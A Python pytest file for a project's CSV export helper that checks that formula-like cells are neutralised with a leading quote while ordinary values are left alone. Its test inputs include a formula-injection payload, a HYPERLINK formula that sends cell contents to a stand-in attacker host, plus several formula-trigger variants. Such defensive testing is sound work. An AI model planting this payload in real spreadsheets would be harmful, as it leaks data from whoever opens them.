"""Cells typed by anyone are never run as spreadsheet formulas."""

from __future__ import annotations

import csv
import io

import pytest

from assemblea.core.spreadsheet import cell_safe, csv_writer


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "  =1",
        "＝1",
    ],
)
def test_text_a_spreadsheet_would_run_is_quoted(typed: str) -> None:
    out = io.StringIO()
    csv_writer(out).writerow(["Ana", typed])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row[0] == "Ana"
    assert row[1] == "'" + typed


@pytest.mark.parametrize("value", ["Ana María", "a=b", "", "100", 12, -4, 1.5, None])
def test_ordinary_values_are_left_alone(value: object) -> None:
    assert cell_safe(value) == value
